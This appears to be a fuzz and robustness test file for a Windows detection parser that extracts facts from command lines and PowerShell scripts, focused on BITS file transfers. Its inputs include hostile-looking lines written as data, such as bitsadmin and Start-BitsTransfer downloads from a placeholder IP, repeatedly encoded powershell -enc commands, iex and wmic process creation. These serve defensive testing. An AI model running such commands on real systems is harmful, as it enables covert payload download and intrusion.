/** No input makes it throw or stall. */
import fc from 'fast-check';
import { factsOf, wantedFields } from '../../src/windows/index.js';
import { encoded, processFacts, scriptFacts } from './rows.js';

const million = 1_000_000;

const shapes: readonly (readonly [string, string])[] = [
  ...['^', '"', '`', "'", '(', '{', '[', '$(', '@(', '@{', '&', '|', ';', '%', '!', '%a%', '!a!', '\\', '\\"', '/c ', 'cmd /c ', '-enc ', 'bitsadmin ', 'bitsadmin /transfer ', 'bits+', "'a'+", 'a,', '$a=', '[char]', '.replace(', '-f ', '-join ', '<#', '#', '@"\n', '\n', ' ', '\t', '../', 'x\\..\\', 'http://', '{0}', 'iex ', '&(gcm ', 'for %i in (', 'if exist a ', 'call ', '>', '2>&1 ', 'set a=%a%%a%&', '$a+=$a;', '$x="$x$x";', 'wmic process call create "', 'CommandInvocation(', 'authorization:', '/setcredentials a b c ', ' -p x', 'http://a:', '.', '=', 'if ====', 'for in("', 'a', '}', "'x", '%a:~1,2%', '[char]$a=', '@{a=', '<', '...x', 'file:', 'file:"', '\u0000', '\uD800'].map((part) => [part, part.repeat(Math.ceil(million / part.length))] as const),
];

test.each(shapes)('a million characters of %j end', (_, text) => {
  const from = performance.now();
  for (const line of [text, `cmd /c ${text}`, `bitsadmin ${text}`, `bitsadmin /transfer ${text}`, `powershell -c ${text}`, `powershell -c bits ${text}`, `wmic bits ${text}`]) processFacts(line);
  scriptFacts(`bits ${text}`);
  processFacts('a', { ParentCommandLine: `svchost ${text}`, ParentImage: 'svchost.exe' });
  // Nine readings; the slowest took half a second here. What goes back over its text needs minutes.
  expect(performance.now() - from).toBeLessThan(20_000);
});

test.each(['file:x', 'file:', 'file:file:x', 'file:"file:x', 'FILE:http://198.51.100.7/a', 'file:\\', 'file:///x'])('%s where a URL is expected', (place) => {
  for (const line of [`bitsadmin /transfer j ${place} C:\\d\\a`, `bitsadmin /addfile j ${place} C:\\d\\a`, `bitsadmin /setnotifycmdline j ${place} NULL`, `powershell -c Start-BitsTransfer '${place}' C:\\d\\a`, `desktopimgdownldr /lockscreenurl:${place} /eventName:e`]) {
    expect(() => processFacts(line)).not.toThrow();
  }
});

test('commands within commands, encoded again and again', () => {
  let script = 'Start-BitsTransfer http://198.51.100.7/a C:\\d\\a';
  for (let depth = 0; depth < 7; depth++) script = `powershell -enc ${encoded(script)}`;
  expect(() => processFacts(script)).not.toThrow();
  expect(processFacts(`powershell -c "${'('.repeat(30)}Start-BitsTransfer http://198.51.100.7/a C:\\d\\a${')'.repeat(30)}"`)?.verbs).toEqual(['transfer']);
});

const piece = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom('bitsadmin', 'file:', '/transfer', '/addfile', 'powershell', '-c', '-enc', 'Start-BitsTransfer', 'cmd', '/c', 'http://198.51.100.7/a', 'C:\\d\\a', '"', "'", '`', '^', '&', '|', '(', ')', '{', '}', '[', ']', '$a', '=', '+', '-f', '-join', '@', '%a%', '!a!', ',', ';', '\n', 'iex', 'gcm', 'St*fer', 'wmic', '__proto__', 'constructor', 'toString', '{0}', '-replace', '.', '::') },
  fc.string({ maxLength: 6, unit: 'binary' }),
);
const line = fc.array(fc.tuple(piece, fc.constantFrom('', ' ')), { maxLength: 40 }).map((parts) => parts.flat().join(''));

test('never throws, whatever the fields hold', () => {
  const row = fc.dictionary(fc.oneof(fc.constantFrom(...wantedFields), fc.constantFrom('__proto__', 'toString')), fc.oneof(line, fc.constantFrom('3', '59', '4104', '7040', '-', '')), { maxKeys: 8 });
  fc.assert(fc.property(row, (fields) => { factsOf((field) => (Object.hasOwn(fields, field) ? fields[field] : undefined)); }), { numRuns: 3_000 });
});

test('the same row says the same', () => {
  fc.assert(fc.property(line, (text) => { expect(processFacts(text)).toEqual(processFacts(text)); expect(scriptFacts(text)).toEqual(scriptFacts(text)); }), { numRuns: 1_000 });
});

test('names of foreign keys are names like any other', () => {
  expect(scriptFacts("$p=@{'__proto__'='x';Source='http://198.51.100.7/a';Destination='C:\\d\\a'}; Start-BitsTransfer @p")?.verbs).toEqual(['transfer']);
  expect(scriptFacts('$__proto__="Start-BitsTransfer"; & $__proto__ http://198.51.100.7/a C:\\d\\a')?.verbs).toEqual(['transfer']);
  expect(({} as Record<string, unknown>)['x']).toBeUndefined();
});
